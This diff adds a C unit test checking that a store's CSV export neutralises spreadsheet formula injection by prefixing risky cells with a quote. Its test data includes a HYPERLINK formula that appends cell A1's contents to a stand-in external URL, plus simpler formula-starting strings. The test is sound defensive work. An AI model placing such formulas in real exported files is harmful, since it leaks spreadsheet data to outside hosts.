@@ -791,6 +791,39 @@ static void test_oom(void)
     kf_store_close(s);
 }
 
+/* CSV export: a cell a spreadsheet would run as a formula is neutralised
+ * with a leading quote; other cells are as they were. */
+static void test_csv_formulas(void)
+{
+    kf_store *s = open_ok(tpath("csv.db"));
+    static const char *const notes[] = {
+        "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")", "+1+1", "-2+3",
+        "@SUM(A1:A9)", "\tindented", "\rreturn", "plain = fine", "a-b",
+    };
+    for (size_t i = 0; i < KF_ARRAY_LEN(notes); i++) {
+        kf_checkin c = sample(2);
+        c.note = notes[i];
+        CHECK_INT(kf_store_add_checkin(s, &c, NULL, NULL), KF_OK);
+    }
+    kf_buf out;
+    kf_buf_init(&out);
+    CHECK_INT(kf_store_export(s, KF_EXPORT_CSV, &out, NULL), KF_OK);
+    CHECK_CONTAINS(out.s, ",\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"click\"\")\",");
+    CHECK_CONTAINS(out.s, ",\"'+1+1\",");
+    CHECK_CONTAINS(out.s, ",\"'-2+3\",");
+    CHECK_CONTAINS(out.s, ",\"'@SUM(A1:A9)\",");
+    CHECK_CONTAINS(out.s, ",\"'\tindented\",");
+    CHECK_CONTAINS(out.s, ",\"'\rreturn\",");
+    CHECK_CONTAINS(out.s, ",plain = fine,");
+    CHECK_CONTAINS(out.s, ",a-b,");
+    /* No cell starts with a formula character any more. */
+    for (const char *p = out.s; p && *p; p++)
+        if ((*p == ',' || *p == '\n') && p[1] && strchr("=+-@", p[1]))
+            CHECK(!"a cell starts with a formula character");
+    kf_buf_free(&out);
+    kf_store_close(s);
+}
+
 int main(void)
 {
     snprintf(tmpdir, sizeof tmpdir, "/tmp/kf-test-store-XXXXXX");
@@ -799,6 +832,7 @@ int main(void)
         return 1;
     }
     RUN(test_time);
+    RUN(test_csv_formulas);
     RUN(test_open_new);
     RUN(test_roundtrip);
     RUN(test_validation);
